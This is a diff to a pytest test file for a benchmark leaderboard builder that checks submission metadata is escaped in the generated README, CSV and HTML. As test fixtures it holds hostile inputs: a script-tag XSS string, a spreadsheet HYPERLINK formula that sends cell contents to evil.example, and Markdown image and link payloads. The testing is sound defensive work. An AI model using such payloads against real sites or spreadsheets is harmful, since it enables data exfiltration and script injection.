@@ -367,7 +367,9 @@ def board(loader, tmp_path):
     (folder / ".gitkeep").touch()
     strong = make_sub(loader, name="Strong", quality=0.97, seed=11)
     twin = copy.deepcopy(strong)  # same predictions except one item per task: indistinguishable
-    twin["encoder"].update(name="Strong twin", description="<script>alert(1)</script> | pipe")
+    twin["encoder"].update(name="Strong twin", description="<script>alert(1)</script> | pipe",
+                           training_data="=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")",
+                           licence="![x](https://evil.example/i.png) [y](https://evil.example) www.evil.example")
     for i, res in enumerate(twin["results"]):
         sp = res["predictions"]["per_seed"][0]
         task = loader.task(res["task"]["name"])
@@ -434,7 +436,9 @@ def test_build_ranks_marks_and_outputs(board, loader):
     assert "## Suite `lbtest`" in readme and "| lb_reg (spearman) " in readme
     assert readme.count("**") == 2 * len(TASKS) and readme.count(" †") >= len(TASKS)
     assert "[Strong twin](https://example.org/toy-encoder)" in readme and "| 8M " in readme and "| 0 " in readme
-    assert "&lt;script&gt;alert(1)&lt;/script&gt; \\| pipe" in readme and "<script>" not in readme
+    assert "&lt;script&gt;alert\\(1\\)&lt;/script&gt; \\| pipe" in readme and "<script>" not in readme
+    assert "evil.example" in readme and "](https://evil" not in readme and "https://evil" not in readme
+    assert by["Strong twin/linear"]["training_data"].startswith("'=HYPERLINK")
     assert "![sweeps/noise curve.png](figures/sweeps/noise%20curve.png)" in readme
     html = (out / "index.html").read_text()
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and html.count("<script>") == 1
@@ -494,7 +498,7 @@ def test_cli_submit_validate_build(loader, tmp_path, capsys):
     argv = ["submit", "--results", str(results), "--suite", SUITE, "--name", "Toy AAC", "--out", str(out),
             "--meta", "parameters=0", "--meta", "training_data=none", "--meta", "licence=MIT",
             "--meta", "link=https://example.org/aac"]
-    assert main(argv[:-2]) == 1  # no link: a one-line user error, nothing written
+    assert main(argv[:-2]) == 2  # no link: a one-line user error, nothing written
     assert "missing encoder metadata: link" in capsys.readouterr().err and not out.exists()
     assert main(argv) == 0
     printed = capsys.readouterr().out
@@ -676,5 +680,18 @@ def test_committed_leaderboard_validates_and_equals_a_rebuild(tmp_path):
     for name in ("README.md", "leaderboard.csv", "index.html"):
         assert (out / name).read_bytes() == (board / name).read_bytes(), f"leaderboard/{name} is stale: rebuild it"
     names = {json.loads(p.read_text())["encoder"]["name"] for p in subs}
-    for entry in names:
-        assert entry in (board / "README.md").read_text()
+    csv_text = (board / "leaderboard.csv").read_text()
+    for entry in names:  # the CSV holds names as they are; the README escapes Markdown in them
+        assert entry in csv_text
+
+
+def test_markdown_cells_render_as_text_only():
+    """Rendered with a CommonMark parser, submission text yields no image, link or HTML element."""
+    markdown_it = pytest.importorskip("markdown_it")
+    from lsdbench.leaderboard.build import _md
+
+    hostile = ("![x](https://evil.example/i.png) [y](https://evil.example) <img src=x> `code` *em* "
+               "<https://evil.example> &lt;b&gt; | cell")
+    html = markdown_it.MarkdownIt("commonmark").enable("table").render(f"| a |\n|---|\n| {_md(hostile)} |\n")
+    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<em>" not in html
+    assert "<td>![x](https://evil.example/i.png) [y](https://evil.example)" in html.replace("\\", "")
